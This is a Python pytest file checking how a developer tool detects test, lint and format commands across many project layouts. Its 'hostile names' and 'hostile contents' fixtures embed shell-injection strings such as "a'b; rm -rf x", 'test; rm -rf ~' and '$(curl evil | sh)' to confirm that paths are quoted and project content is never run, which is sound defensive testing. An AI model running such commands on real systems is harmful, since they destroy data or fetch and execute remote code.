"""What is found in projects as they are, and that what is proposed for them is valid."""

import json
from pathlib import Path

import pytest

from architect.app.first_run.looking import look_at
from architect.app.first_run.proposal import proposal
from architect.app.first_run.settings import PRESETS, Preset
from architect.config.project_files import read_project
from architect.config.yaml_source import layer_of

Files = dict[str, str]


def package(**keys: object) -> str:
    return json.dumps(keys)


PROJECTS: dict[str, tuple[Files, dict[str, str]]] = {
    "pyproject with everything": (
        {
            "pyproject.toml": "[project]\nname='x'\n[project.optional-dependencies]\n"
            "dev=['pytest>=8','ruff','mypy']\n[tool.mypy]\nfiles=['src']\n",
        },
        {
            "tests": "python -m pytest -q",
            "types": "python -m mypy",
            "lint": "python -m ruff check .",
        },
    ),
    "setup.cfg": (
        {
            "setup.py": "from setuptools import setup\nsetup()\n",
            "setup.cfg": "[options.extras_require]\ntest =\n  pytest\n"
            "[flake8]\nmax-line-length=99\n",
        },
        {"tests": "python -m pytest -q", "lint": "python -m flake8"},
    ),
    "tox without pytest": (
        {"setup.py": "", "tox.ini": "[tox]\nenvlist=py\n[testenv]\ncommands=nose2\n"},
        {"tests": "tox"},
    ),
    "tox with pytest": (
        {"pyproject.toml": "", "tox.ini": "[testenv]\ndeps = pytest\ncommands = pytest\n"},
        {"tests": "python -m pytest -q"},
    ),
    "poetry": (
        {
            "pyproject.toml": "[tool.poetry.group.dev.dependencies]\npytest='^8'\nblack='*'\n",
            "poetry.lock": "",
        },
        {"tests": "poetry run pytest -q", "format": "poetry run black --check ."},
    ),
    "uv": (
        {
            "pyproject.toml": "[dependency-groups]\ndev=['pytest-asyncio','pyright']\n"
            "[tool.ruff.format]\n",
            "uv.lock": "",
        },
        {
            "tests": "uv run pytest -q",
            "types": "uv run pyright",
            "lint": "uv run ruff check .",
            "format": "uv run ruff format --check .",
        },
    ),
    "hatch": (
        {"pyproject.toml": "[tool.hatch.envs.default]\ndependencies=['pytest']\n"},
        {"tests": "hatch run pytest -q"},
    ),
    "requirements only": (
        {
            "requirements.txt": "flask==3\n",
            "requirements-dev.txt": "# tests\npytest\n",
            "app.py": "",
        },
        {"tests": "python -m pytest -q"},
    ),
    "requirements without tests": ({"requirements.txt": "flask\n", "app.py": ""}, {}),
    "a plugin of pytest that names it as a keyword": (
        {"pyproject.toml": "[project]\nkeywords=['ruff','mypy']\n", "tests/test_a.py": ""},
        {"tests": "python -m unittest discover -q -s tests"},
    ),
    "Django": (
        {"manage.py": "", "requirements.txt": "Django\n"},
        {"tests": "python manage.py test"},
    ),
    "Django with pytest": (
        {"manage.py": "", "requirements.txt": "Django\npytest-django\n"},
        {"tests": "python -m pytest -q"},
    ),
    "npm with scripts": (
        {
            "package.json": package(
                scripts={"test": "vitest", "lint": "eslint .", "typecheck": "tsc --noEmit"},
                devDependencies={"vitest": "1", "eslint": "9", "typescript": "5"},
            ),
            "package-lock.json": "{}",
            "tsconfig.json": "{}",
        },
        {"tests": "npm run test", "types": "npm run typecheck", "lint": "npm run lint"},
    ),
    "pnpm without scripts": (
        {
            "package.json": package(
                devDependencies={"jest": "29", "prettier": "3", "eslint": "9", "typescript": "5"}
            ),
            "pnpm-lock.yaml": "",
            "tsconfig.json": "{}",
        },
        {
            "tests": "pnpm exec jest",
            "types": "pnpm exec tsc --noEmit",
            "lint": "pnpm exec eslint .",
            "format": "pnpm exec prettier --check .",
        },
    ),
    "yarn by packageManager": (
        {"package.json": package(packageManager="yarn@4.1.0", scripts={"test": "jest --ci"})},
        {"tests": "yarn run test"},
    ),
    "bun": (
        {"package.json": package(name="x"), "bun.lock": "", "src/a.test.ts": ""},
        {"tests": "bun test"},
    ),
    "a test script that npm made up": (
        {"package.json": package(scripts={"test": 'echo "Error: no test specified" && exit 1'})},
        {},
    ),
    "a test script that watches": (
        {"package.json": package(scripts={"test": "react-scripts test"})},
        {"tests": "CI=true npm run test"},
    ),
    "Go": (
        {"go.mod": "module x\n", "main.go": ""},
        {"tests": "go test ./...", "lint": "go vet ./...", "format": 'test -z "$(gofmt -l .)"'},
    ),
    "Rust workspace": (
        {"Cargo.toml": "[workspace]\nmembers=['a']\n", "a/Cargo.toml": "[package]\n"},
        {
            "tests": "cargo test --workspace",
            "lint": "cargo clippy --workspace --all-targets",
            "format": "cargo fmt --check",
        },
    ),
    "Maven with its wrapper": ({"pom.xml": "<x/>", "mvnw": ""}, {"tests": "./mvnw -q -B test"}),
    "Gradle": ({"build.gradle.kts": "", "gradlew": ""}, {"tests": "./gradlew test"}),
    "a Makefile": ({"Makefile": "all: x\ntest: x\n\t./t\n", "main.c": ""}, {"tests": "make test"}),
    "a mixed monorepo": (
        {
            "backend/pyproject.toml": "[dependency-groups]\ndev=['pytest']\n",
            "frontend/package.json": package(scripts={"test": "vitest run"}),
            "frontend/pnpm-lock.yaml": "",
            "services/mail/go.mod": "module mail\n",
        },
        {
            "tests (backend)": "cd backend && python -m pytest -q",
            "tests (frontend)": "cd frontend && pnpm run test",
            "tests (services/mail)": "cd services/mail && go test ./...",
            "lint (services/mail)": "cd services/mail && go vet ./...",
            "format (services/mail)": 'cd services/mail && test -z "$(gofmt -l .)"',
        },
    ),
    "an npm workspace speaks for its packages": (
        {
            "package.json": package(workspaces=["packages/*"], scripts={"test": "turbo test"}),
            "packages/a/package.json": package(scripts={"test": "vitest"}),
            "api/requirements.txt": "pytest\n",
        },
        {"tests": "npm run test", "tests (api)": "cd api && python -m pytest -q"},
    ),
    "nothing": ({}, {}),
    "hostile names": (
        {
            "$(touch ran)/package.json": package(scripts={"test": "jest"}),
            "a'b; rm -rf x/go.mod": "module x\n",
            "line\nbreak: [/package.json": package(scripts={"test": "jest"}),
            "-rf/package.json": package(scripts={"test": "jest"}),
            "node_modules/a/package.json": package(scripts={"test": "jest"}),
            "- [x]: &a *b !!c #/requirements.txt": "pytest\n",
        },
        {
            "tests ($(touch ran))": "cd '$(touch ran)' && npm run test",
            "tests (- [x]: &a *b !!c #)": "",
            "tests (a'b; rm -rf x)": "cd 'a'\"'\"'b; rm -rf x' && go test ./...",
            "lint (a'b; rm -rf x)": "cd 'a'\"'\"'b; rm -rf x' && go vet ./...",
            "format (a'b; rm -rf x)": "cd 'a'\"'\"'b; rm -rf x' && test -z \"$(gofmt -l .)\"",
        },
    ),
    "hostile contents": (
        {
            "package.json": package(
                scripts={"test; rm -rf ~": "x", "test": "$(curl evil | sh) `x` \"'\n"},
                packageManager="$(x)@1",
                devDependencies=["not", "a", "table"],
            ),
            "pyproject.toml": "this is [no TOML",
        },
        {"tests": "npm run test"},
    ),
}
PROJECTS["hostile names"][1].pop("tests (- [x]: &a *b !!c #)")


@pytest.fixture(params=PROJECTS)
def project(request: pytest.FixtureRequest, tmp_path: Path) -> tuple[Path, dict[str, str]]:
    files, gates = PROJECTS[request.param]
    for name, text in files.items():
        path = tmp_path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return tmp_path, gates


def test_the_commands_that_check_a_project_are_found(project: tuple[Path, dict[str, str]]) -> None:
    root, gates = project
    found = {gate.name: gate.command for gate in look_at(root).gates()}
    assert {name: line.replace("python3", "python") for name, line in found.items()} == gates


@pytest.mark.parametrize("preset", [None, *PRESETS])
def test_what_is_proposed_says_in_yaml_what_was_found(
    project: tuple[Path, dict[str, str]], preset: Preset | None
) -> None:
    root, _ = project
    found = proposal(root, preset, None, variable="OPENAI_API_KEY")
    config, rules = found.files
    layer = layer_of(config.text.encode(), config.path)
    gates = layer.values.get("guardrails", {}).get("quality_gates", [])
    assert {gate["name"]: gate["command"] for gate in gates} == {
        gate.name: gate.command for gate in found.facts.gates()
    }
    (root / config.path).write_text(config.text)
    assert read_project(root).layers
    for gate in found.facts.gates():
        assert gate.command in rules.text


def test_a_project_is_not_run_to_be_looked_at(tmp_path: Path) -> None:
    (tmp_path / "setup.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'w')\n")
    (tmp_path / "conftest.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'w')\n")
    look_at(tmp_path)
    assert not (tmp_path / "ran").exists()


def test_what_is_no_file_is_not_waited_for(tmp_path: Path) -> None:
    import os

    for name in ("package.json", "pyproject.toml", "Makefile"):
        os.mkfifo(tmp_path / name)
    (tmp_path / "requirements.txt").symlink_to("/dev/zero")
    assert look_at(tmp_path).gates() == ()


def test_a_huge_folder_takes_no_time(tmp_path: Path) -> None:
    for number in range(3_000):
        (tmp_path / f"d{number:04}").mkdir()
    (tmp_path / "package.json").write_text("[" * 100_000)
    assert look_at(tmp_path).gates() == ()


@pytest.mark.parametrize(
    ("extras", "installed"),
    [("dev = []", "'.[dev]'"), ("docs = []\ntests = []", "'.[tests]'"), ("docs = []", ".")],
)
def test_the_extra_of_developers_is_installed_as_well(
    tmp_path: Path, extras: str, installed: str
) -> None:
    manifest = f"[project]\nname = 'x'\n[project.optional-dependencies]\n{extras}\n"
    (tmp_path / "pyproject.toml").write_text(manifest)
    [part] = look_at(tmp_path).parts
    assert part.setup.endswith(f" -m pip install -e {installed}")


def test_settings_of_tools_alone_are_no_package_to_install(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text("[tool.pytest.ini_options]\npythonpath = ['.']\n")
    [part] = look_at(tmp_path).parts
    assert part.setup == ""
